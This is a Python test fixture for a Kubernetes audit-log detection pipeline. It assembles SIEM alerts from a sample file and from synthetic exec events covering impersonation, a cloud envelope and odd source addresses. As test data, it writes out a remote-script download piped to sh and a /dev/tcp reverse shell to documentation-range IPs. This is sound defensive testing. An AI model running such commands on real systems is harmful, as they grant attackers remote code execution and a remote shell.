"""Real alerts for the SIEM format tests: every alert the built-in rules give on the shipped
sample, plus execs that reach the corners: impersonation, a cloud envelope, several source
addresses (one not an IP), the allow decision, and rules with sub-techniques or no ATT&CK at
all (the built-in rules' metadata, changed)."""

from __future__ import annotations

import json
import random
from dataclasses import replace
from datetime import UTC, datetime
from functools import cache
from pathlib import Path

from auditstream.detections.alert import Alert, SourceRef
from auditstream.detections.alert_window import RecentAlerts
from auditstream.detections.engine import Detector
from auditstream.detections.errors import MalformedEvent
from auditstream.detections.event.envelope import Envelope
from auditstream.detections.pipeline import DetectionPipeline
from auditstream.detections.ruleset.loader import load_rules
from auditstream.detections.ruleset.meta import Technique
from devtools.traffic.synthetic import exec_audit_events

SAMPLE = Path(__file__).resolve().parents[2] / "examples" / "audit-sample.jsonl"
DETECTED = datetime(2025, 1, 15, 10, 7, 3, 250_000, tzinfo=UTC)


def _pipeline() -> DetectionPipeline:
    rules = load_rules([], builtin=True)
    return DetectionPipeline(Detector(rules.rules), RecentAlerts(10_000), clock=lambda: DETECTED)


@cache
def sample_alerts() -> tuple[Alert, ...]:
    """The sample's alerts and the corner cases' (cached: alerts are frozen)."""
    pipeline = _pipeline()
    alerts: list[Alert] = []
    for number, line in enumerate(SAMPLE.read_bytes().splitlines(), 1):
        try:
            found = pipeline.process_message(line, SourceRef("file", file=SAMPLE.name, line=number))
        except MalformedEvent:  # the sample has bad lines on purpose
            continue
        alerts.extend(found.alerts)
    for offset, message in enumerate(_corner_messages()):
        alerts.extend(pipeline.process_message(message, _kafka(offset)).alerts)
    return (*alerts, *_other_rules(alerts[0]))


def _other_rules(alert: Alert) -> list[Alert]:
    rule = alert.rule
    [threat] = rule.threat[:1]
    technique = replace(
        threat.techniques[0],
        subtechniques=(
            Technique("T1059.004", "Unix Shell", "https://attack.mitre.org/techniques/T1059/004/"),
        ),
    )
    nested = replace(threat, techniques=(technique,))
    return [
        replace(alert, rule=replace(rule, threat=(nested,), references=())),
        replace(alert, rule=replace(rule, threat=(), severity="critical", version=3)),
    ]


def _kafka(offset: int) -> SourceRef:
    envelope = Envelope("eks", "prod-eu", "123456789012", "/aws/eks/prod-eu/cluster", "kube-1")
    return SourceRef("kafka", topic="k8s-audit", partition=0, offset=offset, envelope=envelope)


def _corner_messages() -> list[bytes]:
    rng = random.Random(17)
    impersonating = exec_audit_events(
        command=["sh", "-c", "curl -s https://198.51.100.7/x.sh | sh"], rng=rng,
        source_ip="192.0.2.44",
    )[0]  # fmt: skip
    impersonating["impersonatedUser"] = {"username": "system:admin", "groups": ["system:masters"]}
    impersonating["sourceIPs"] = ["192.0.2.44", "10.0.0.9", "not-an-ip"]
    reverse = exec_audit_events(
        command=["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"], rng=rng,
        client="rancher",
    )[1]  # fmt: skip
    return [json.dumps(event).encode() for event in (impersonating, reverse)]
